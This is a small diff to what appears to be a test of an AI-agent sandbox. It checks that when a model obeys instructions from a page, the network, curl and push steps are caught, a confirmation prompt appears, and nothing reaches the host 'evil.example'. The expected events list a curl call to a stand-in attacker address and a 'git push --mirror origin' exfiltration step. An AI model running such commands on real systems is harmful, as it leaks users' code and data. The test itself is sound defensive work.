@@ -77,7 +77,7 @@ async def test_i6_i8_a_model_that_obeys_a_page_changes_nothing_without_a_questio
         assert [(event.kind, event.subject) for event in seen] == [
             ("network", f"example.test:{outside.port}"),
             ("command", f"curl -s --max-time 5 {evil}"),
-            ("tool", "to ask you whether this may leave the box: git push --mirror origin"),
+            ("tool", "to ask you whether this may run unsandboxed: git push --mirror origin"),
             ("host", "evil.example:80"),
         ]
         assert (outside.heard, [request for request in host.requests if "evil" in request]) == (b"", [])
